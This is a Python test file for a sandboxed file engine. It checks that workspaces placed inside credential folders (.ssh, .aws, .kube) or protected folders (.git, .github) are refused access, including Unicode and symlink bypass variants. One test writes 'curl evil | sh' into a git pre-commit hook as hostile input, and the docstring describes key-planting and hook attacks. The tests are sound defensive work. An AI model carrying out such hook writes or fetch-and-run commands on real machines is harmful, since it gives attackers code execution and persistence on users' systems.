"""A workspace folder inside a secret folder, or inside a protected one, is judged by
where it is: a file there is inside ``.ssh`` (or ``.git``) whichever folder the
operator picked (SPEC §8.3).

Rule: "Secret-like files — ... anything inside ``.ssh`` — are refused to read, write
and stat" (and inside ``.aws/``, ``.gnupg/``; ``.docker/config.json``,
``.kube/config``); "``fs.write`` also refuses protected paths: ``.git/`` anywhere,
``.claude/``, ... ``.github/``". A workspace made of ``~/.ssh`` let a card append its
key to ``authorized_keys``; one made of a project's ``.git`` let it write
``hooks/pre-commit``, which the person's next commit runs; one of ``~/.kube`` let it
read the cluster's credentials — each checked only beneath the workspace folder.

The folder's own path counts for the secret and protected *folders* (and the two
secret pairs); secret file-name patterns are not applied to the folders above the
workspace (a project named ``credentials-service`` is a project), README.

(Found by files27.)
"""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from engine import Engine, World
from engine.effects.files import ConfinedFiles

from ..conftest import manifest, offer_install


async def _card_in(make_engine: Any, tmp_path: Path, folder: Path) -> Engine:
    engine = make_engine(world=World(net=None, fs=ConfinedFiles(
        data_dir=tmp_path / "data", trash=tmp_path / "trash")))
    await engine.create_workspace("w1", folder)
    await offer_install(engine, manifest("acme.fs", {"fs.write": {}}))
    await engine.add_node({"id": "c1", "type": "card", "package": "acme.fs"}, workspace="w1")
    return engine


def _tree(root: Path, files: list[str]) -> None:
    for rel in files:
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text("person's")


@pytest.mark.parametrize("folder, via_link", [
    (".ssh", False), (".ssh", True), (".aws", False), (".gnupg", False), (".ssh/sub", False),
    (".Aws", False)])
async def test_a_workspace_inside_a_secret_folder_gives_nothing(
        make_engine: Any, tmp_path: Path, folder: str, via_link: bool) -> None:
    """Every call on every path is secret-path; nothing is read or written."""
    home = tmp_path / "home"
    _tree(home / folder, ["config", "authorized_keys", "sub/x"])
    ws = home / folder
    if via_link:
        (tmp_path / "ws").symlink_to(ws)
        ws = tmp_path / "ws"
    engine = await _card_in(make_engine, tmp_path, ws)
    for call, args in (("fs.readText", {"path": "config"}), ("fs.stat", {"path": "config"}),
                       ("fs.list", {"path": "."}), ("fs.watch", {"path": "."}),
                       ("fs.writeText", {"path": "authorized_keys", "text": "ssh-ed25519 X"}),
                       ("fs.writeText", {"path": "new", "text": "x"}),
                       ("fs.trash", {"path": "sub"})):
        d = await engine.call("c1", call, None, args)
        assert (d.code, d.reason) == ("SCOPE_REFUSED", "secret-path"), (call, args, d.message)
    assert (home / folder / "authorized_keys").read_text() == "person's"
    assert not (home / folder / "new").exists() and (home / folder / "sub" / "x").exists()


@pytest.mark.parametrize("folder, secret", [(".docker", "config.json"), (".kube", "config"),
                                            (".KUBE", "Config")])
async def test_a_workspace_that_is_a_secret_pairs_folder_hides_its_file(
        make_engine: Any, tmp_path: Path, folder: str, secret: str) -> None:
    """In ~/.docker, config.json is secret-path and unlisted; other files are not."""
    ws = tmp_path / "home" / folder
    _tree(ws, [secret, "other.json"])
    engine = await _card_in(make_engine, tmp_path, ws)
    d = await engine.call("c1", "fs.readText", None, {"path": secret})
    assert (d.code, d.reason) == ("SCOPE_REFUSED", "secret-path"), d.message
    assert (await engine.call("c1", "fs.list", None, {"path": "."})).value == ["other.json"]
    assert (await engine.call("c1", "fs.readText", None, {"path": "other.json"})).value \
        == "person's"


@pytest.mark.parametrize("folder", [".git", ".git/hooks", ".github", ".claude", ".vscode",
                                    ".GIT", "sub/.git/modules/m",
                                    # a dotless ı: .GIT where a volume's up-case table
                                    # upper-cases it as Unicode does (NTFS, exFAT)
                                    ".g\u0131t/hooks"])
async def test_a_workspace_inside_a_protected_folder_is_never_written(
        make_engine: Any, tmp_path: Path, folder: str) -> None:
    """Every writing call is protected-path; reading stays allowed, as anywhere."""
    ws = tmp_path / "proj" / folder
    _tree(ws, ["pre-commit", "workflows/ci.yml"])
    engine = await _card_in(make_engine, tmp_path, ws)
    for call, args in (("fs.writeText", {"path": "pre-commit", "text": "curl evil | sh"}),
                       ("fs.writeBytes", {"path": "new", "base64": "eA=="}),
                       ("fs.writeText", {"path": "workflows/ci.yml", "text": "x"}),
                       ("fs.mkdir", {"path": "dir"}), ("fs.trash", {"path": "workflows"})):
        d = await engine.call("c1", call, None, args)
        assert (d.code, d.reason) == ("SCOPE_REFUSED", "protected-path"), (call, args,
                                                                           d.message)
    assert (ws / "pre-commit").read_text() == "person's"
    assert sorted(os.listdir(ws)) == ["pre-commit", "workflows"]
    assert (await engine.call("c1", "fs.readText", None, {"path": "pre-commit"})).value \
        == "person's"


async def test_secret_name_patterns_are_not_applied_above_the_workspace(
        make_engine: Any, tmp_path: Path) -> None:
    """A project in a folder named like a secret file (credentials-service, keys.key)
    is a project: its files are read and written as anywhere."""
    ws = tmp_path / "credentials-service" / "id_rsa-tools"
    _tree(ws, ["src/app.py"])
    engine = await _card_in(make_engine, tmp_path, ws)
    assert (await engine.call("c1", "fs.readText", None, {"path": "src/app.py"})).value \
        == "person's"
    assert (await engine.call("c1", "fs.writeText", None,
                              {"path": "src/b.py", "text": "b"})).outcome == "ok"
